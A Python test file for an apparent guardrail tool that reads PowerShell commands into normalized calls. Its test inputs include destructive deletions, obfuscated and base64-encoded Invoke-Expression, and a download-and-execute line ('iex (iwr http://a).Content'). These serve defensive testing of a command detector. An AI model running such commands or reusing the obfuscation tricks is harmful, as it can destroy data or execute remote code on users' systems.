"""PowerShell is read into calls: aliases, parameters, pipes, .NET and constant expressions."""

from __future__ import annotations

from base64 import b64encode

import pytest
from guardrail_calls import spelled
from hypothesis import given, settings
from hypothesis import strategies as st
from rounds import ROUNDS

from guardrail.model import Call
from guardrail.reading.powershell import read

ENCODED = b64encode("rm x".encode("utf-16-le")).decode()


@pytest.mark.parametrize(
    ("text", "calls"),
    [
        ("rm -Recurse -Force C:\\x", ["ps:remove-item -Recurse -Force C:\\x"]),
        ("REMOVE-ITEM -Path:x", ["ps:remove-item -Path:x"]),
        ("$a = 'x'; del \"$a.txt\"", ["ps:remove-item x.txt"]),
        ("ri a, b -Force -ErrorAction SilentlyContinue", ["ps:remove-item a b -Force"]),
        ("i`ex 'ls'", ["ps:invoke-expression ls"]),
        ("& ('i' + 'ex') 'ls'", ["ps:invoke-expression ls"]),
        ("'{1}{0}' -f 'x', 'ie' | % { & $_ 'ls' }", ["ps:invoke-expression ls"]),
        (
            "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('cm0geA==')))",
            ["ps:invoke-expression rm x"],
        ),
        ("iex (iwr http://a).Content", ["ps:invoke-webrequest http://a", "ps:invoke-expression $(curl -s http://a)?"]),
        ("[System.IO.File]::Delete('C:\\x')", ["ps:remove-item C:\\x"]),
        ("[IO.Directory]::Delete('C:\\x', $true)", ["ps:remove-item C:\\x -Recurse"]),
        ("gci C:\\a -r | % { del $_.FullName }", ["ps:get-childitem C:\\a -r", "ps:remove-item C:\\a/*"]),
        ("gci C:\\a | Remove-Item -Force", ["ps:get-childitem C:\\a", "ps:remove-item -Force C:\\a/*"]),
        ("foreach ($f in 'a', 'b') { ri $f }", ["ps:remove-item a", "ps:remove-item b"]),
        ("function foo($x) { ri $x }; foo C:\\d", ["ps:remove-item C:\\d"]),
        ("function foo { ri x }", ["~ps:remove-item x"]),
        ("git push --force; reg.exe add HKCU:\\x --c=d", ["git push --force", "reg add HKCU:\\x --c=d"]),
        ("'a' > out.txt", [": >out.txt"]),
        ('Write-Host "rm x" # ri x', ["ps:write-host rm x"]),
        ("ri $env:TEMP\\x", ["ps:remove-item $env:TEMP\\x?"]),
        (f"powershell -enc {ENCODED}", ["powershell -Command rm x"]),
        (ENCODED, ["ps:remove-item x"]),
        ("start-process cmd -ArgumentList '/c del x'", ["ps:start-process cmd -ArgumentList /c del x", "cmd:del x"]),
    ],
)
def test_calls_of_powershell_are_read(text: str, calls: list[str]) -> None:
    assert spelled(read(text)) == calls


def test_a_pipe_feeds_the_next_command() -> None:
    calls = read("iwr http://a | iex").calls
    assert isinstance(calls[1].stdin, Call) and calls[1].stdin.program == "ps:invoke-webrequest"


def test_a_quote_that_is_not_closed_is_uncovered() -> None:
    assert [part.reason for part in read("rm 'a").uncovered] == ["a quote that isn't closed"]


@settings(max_examples=40 * ROUNDS, deadline=None)
@given(
    st.lists(
        st.sampled_from(
            (
                "rm ",
                "-Path ",
                "a",
                "'",
                '"',
                "$",
                "$x",
                "=",
                "(",
                ")",
                "{",
                "}",
                "[",
                "]",
                "|",
                ";",
                "@(",
                "@{",
                "$(",
                "`",
                "#",
                "<#",
                "\n",
                "foreach (",
                " in ",
                ".Delete(",
                "::",
                "-f ",
                "+",
                ",",
                "&",
                ">",
                "é",
                "if ",
                "function f ",
                "@'\n",
            )
        ),
        max_size=30,
    )
)
def test_reading_powershell_never_raises(parts: list[str]) -> None:
    text = "".join(parts)
    for call in read(text).calls:
        assert 0 <= call.span.start <= call.span.end <= len(text)
